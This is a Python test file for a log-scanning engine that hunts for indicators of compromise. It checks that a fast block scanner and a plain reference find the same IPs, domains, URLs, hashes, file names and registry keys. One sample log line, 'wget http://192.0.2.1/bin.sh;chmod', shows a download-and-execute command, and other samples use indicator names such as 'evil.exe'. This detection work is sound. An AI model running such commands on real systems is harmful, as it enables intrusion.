"""The fast way and the plain way find the same indicators at the same places, whatever a log holds."""

import io
import ipaddress

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from plain_lookup import Dictionaries

from haidang.engine.hunting import plain
from haidang.engine.hunting.blocks import Blocks
from haidang.engine.hunting.index import make_index
from haidang.engine.hunting.scan import scan_block

Found = set[tuple[int, int, int, str]]

LABELS = st.sampled_from(["evil", "a", "b-c", "com", "vn", "net", "xn--e1afmkfd", "not", "x_y", "10", "de", "e"])
NAMES = st.builds(
    lambda labels, last: ".".join([*labels, last]),
    st.lists(LABELS, min_size=1, max_size=2),
    st.sampled_from(["com", "vn", "net", "de"]),
)
QUADS = st.lists(st.sampled_from([1, 2, 10, 25, 255]), min_size=4, max_size=4).map(
    lambda parts: ".".join(map(str, parts))
)
SIXES = st.sampled_from(
    ["2001:db8::1", "2001:db8:0:1::7", "fe80::1:2", "::1", "1:2:3:4:5:6:7:8", "2001:db8::de", "2001:db8:0:0:1:2:3:4"]
)
HASHES = st.sampled_from(["0123456789abcdef" * 2, "fedcba98" * 5, "00112233445566778899aabbccddeeff" * 2])
PATHS = st.sampled_from(["/", "", "/a", "/a/", "/a/b.php", "/a?x=1", "/A.b"])
HOSTS = st.one_of(NAMES, QUADS, NAMES.map("{}:8080".format), NAMES.map("{}:443".format))


def network(text: str, length: int) -> tuple[str, str]:
    return "cidr", str(ipaddress.ip_network(f"{text}/{length}", strict=False))


INDICATORS = st.lists(
    st.one_of(
        st.tuples(st.just("ipv4"), QUADS),
        st.builds(network, QUADS, st.integers(1, 31)),
        st.tuples(st.just("ipv6"), SIXES.map(lambda text: str(ipaddress.ip_address(text)))),
        st.builds(network, SIXES, st.integers(1, 127)),
        st.tuples(st.sampled_from(["domain", "host"]), NAMES),
        st.tuples(st.just("url"), st.builds("http://{}{}".format, HOSTS, PATHS)),
        st.tuples(st.just("email"), st.builds("{}@{}".format, st.sampled_from(["a", "x.y", "b-c"]), NAMES)),
        HASHES.map(lambda text: ({32: "md5", 40: "sha1", 64: "sha256"}[len(text)], text)),
        st.tuples(st.just("file_name"), st.sampled_from(["evil.exe", "my evil.exe", "mimi", "x(1).doc"])),
        st.tuples(st.just("registry_key"), st.sampled_from([r"hklm\software\evil", r"hkcu\a\b-c run"])),
    ),
    min_size=1,
    max_size=12,
    unique=True,
)
BETWEEN = st.sampled_from(
    ["", "", " ", "\t", ",", ";", '"', "'", "/", "\\", "\\n", "%2F", "%3a", ":", "=", "@", "(", "[", "]", ".", "..", "-",
     "_", "<", "\\/", "\\u003c", "//", "http://", "|", "\0", "é", "“", "?", "&", "#", ":80", ":443", ":8080", "::", "x", "1",
     "0", "\n", "\n", "\r\n"]
)  # fmt: skip
OTHERS = st.one_of(NAMES, QUADS, SIXES, HASHES, PATHS, st.sampled_from(["эвил.com", "ABC", "9", "1.2.3", "12:34:56"]))


@st.composite
def logs(draw: st.DrawFn) -> tuple[list[tuple[str, str]], bytes]:
    """Draw indicators, and a log in which they stand whole, in capitals, glued and escaped."""
    indicators = draw(INDICATORS)
    pieces = st.one_of(st.sampled_from([value for _, value in indicators]), OTHERS)
    written = st.one_of(
        pieces, pieces.map(str.upper), pieces.map(lambda text: text.split("://")[-1].replace("/", "\\/")),
        pieces.map(lambda text: text.replace("\\", "\\\\")),
    )  # fmt: skip
    parts = draw(st.lists(st.tuples(written, BETWEEN, BETWEEN), max_size=40))
    return indicators, "".join("".join(part) for part in parts).encode()


def found_fast(indicators: list[tuple[str, str]], log: bytes, size: int) -> Found:
    index = make_index(pl.DataFrame(indicators, schema=["type", "value"], orient="row"))
    blocks, found, lines = Blocks(size), set(), 0
    for block in blocks.read(io.BytesIO(log)):
        some, count = scan_block(block, index)
        for line in some:
            found |= {(lines + line.number, start, end, index.value(value)[1]) for start, end, value in line.hits}
        lines += count
        blocks.give_back(block)
    assert lines == log.count(b"\n") + (log != b"" and not log.endswith(b"\n"))
    return found


def found_plainly(indicators: list[tuple[str, str]], log: bytes) -> Found:
    lookup = Dictionaries(indicators)
    return {
        (number, start, end, lookup.value(value)[1])
        for number, line in enumerate(log.split(b"\n"))
        for start, end, value in plain.find(line, lookup)
    }


@settings(max_examples=400, deadline=None)
@given(logs(), st.sampled_from([64, 256, 1 << 16]))
def test_the_fast_way_finds_what_the_plain_way_finds(drawn: tuple[list[tuple[str, str]], bytes], size: int) -> None:
    assert found_fast(*drawn, size) == found_plainly(*drawn)


CASES = [
    # indicator, line, whether it is found
    ("domain", "evil.com", "http://evil.com/x", True),
    ("domain", "evil.com", "a.evil.com", True),
    ("domain", "evil.com", "EVIL.COM.", True),
    ("domain", "evil.com", "evil.com:8443", True),
    ("domain", "evil.com", "notevil.com", False),
    ("domain", "evil.com", "not-evil.com", False),
    ("domain", "evil.com", "evil.com.vn", False),
    ("domain", "evil.com", "evil.comx", False),
    ("domain", "evil.com", "user@evil.com", True),
    ("domain", "evil.com", "u=http%3A%2F%2Fevil.com%2Fx", True),
    ("domain", "evil.com", r'"msg":"seen\nevil.com"', True),
    ("domain", "xn--e1afmkfd.com", "пример.com", True),
    ("domain", "xn--e1afmkfd.com", "www.Пример.com", True),
    ("domain", "xn--80abnw.com", "www.Эвил.com", False),
    ("host", "evil.com", "evil.com", True),
    ("host", "evil.com", "a.evil.com", False),
    ("host", "desktop-7", "host=DESKTOP-7 user", True),
    ("host", "desktop-7", "host=DESKTOP-77 user", False),
    ("ipv4", "192.0.2.1", "192.0.2.1:443", True),
    ("ipv4", "192.0.2.1", "192.0.2.1.443 > 10.0.0.1.80", True),
    ("ipv4", "192.0.2.1", "192.000.002.001", True),
    ("ipv4", "192.0.2.1", "(192.0.2.1)", True),
    ("ipv4", "192.0.2.1", "192.0.2.10", False),
    ("ipv4", "192.0.2.1", "1192.0.2.1", False),
    ("ipv4", "192.0.2.1", "v192.0.2.1", False),
    ("ipv4", "192.0.2.1", "1.192.0.2.1", False),
    ("ipv4", "192.0.2.1", "::ffff:192.0.2.1", True),
    ("cidr", "192.0.2.0/25", "192.0.2.127", True),
    ("cidr", "192.0.2.0/25", "192.0.2.128", False),
    ("cidr", "192.0.2.0/31", "192.0.2.1", True),
    ("ipv6", "2001:db8::1", "[2001:DB8:0:0:0:0:0:1]:443", True),
    ("ipv6", "2001:db8::1", "2001:0db8::0001%eth0", True),
    ("ipv6", "2001:db8::1", "outside:2001:db8::1/443", True),
    ("ipv6", "2001:db8::1", "2001:db8::1:1", False),
    ("cidr", "2001:db8::/32", "2001:db8:ffff::1", True),
    ("cidr", "2001:db8::/33", "2001:db8:ffff::1", False),
    ("url", "http://evil.com/a/b.php", "GET http://evil.com/a/b.php HTTP/1.1", True),
    ("url", "http://evil.com/a/b.php", "http://EVIL.com:80/a/b.php?id=1", True),
    ("url", "http://evil.com/a/b.php", r'"http:\/\/evil.com\/a\/b.php"', True),
    ("url", "http://evil.com/a/b.php", "http://evil.com/a/b.phpx", False),
    ("url", "http://evil.com/a/b.php", "http://evil.com/A/b.php", False),
    ("url", "http://evil.com/a/b.php", "http://x.evil.com/a/b.php", False),
    ("url", "http://evil.com:8080/a", "http://evil.com:8080/a", True),
    ("url", "http://evil.com:8080/a", "http://evil.com/a", False),
    ("url", "http://192.0.2.1/bin.sh", "wget http://192.0.2.1/bin.sh;chmod", True),
    ("url", "http://evil.com/", "CONNECT evil.com:443", True),
    ("email", "a.b@evil.com", "from=<A.B@Evil.com>", True),
    ("email", "b@evil.com", "from=<a.b@evil.com>", False),
    ("md5", "0123456789abcdef0123456789abcdef", "MD5=0123456789ABCDEF0123456789ABCDEF,", True),
    ("md5", "0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef00", False),
    ("file_name", "evil.exe", r"C:\Users\a\evil.exe", True),
    ("file_name", "evil.exe", r"C:\Users\a\notevil.exe", False),
    ("file_name", "my evil.exe", r"C:\tmp\My Evil.exe", True),
    ("registry_key", r"hklm\software\evil", r"HKEY_LOCAL_MACHINE\\SOFTWARE\\Evil\\Run", True),
    ("registry_key", r"hklm\software\evil", r"HKLM\Software\Evil2", False),
    ("registry_key", r"hklm\software\evil", r"\REGISTRY\MACHINE\SOFTWARE\Evil", True),
]


@pytest.mark.parametrize(("type_", "value", "line", "expected"), CASES)
def test_both_ways_find_what_a_person_would(type_: str, value: str, line: str, expected: bool) -> None:
    for found in (found_fast([(type_, value)], line.encode(), 1 << 16), found_plainly([(type_, value)], line.encode())):
        assert bool(found) is expected
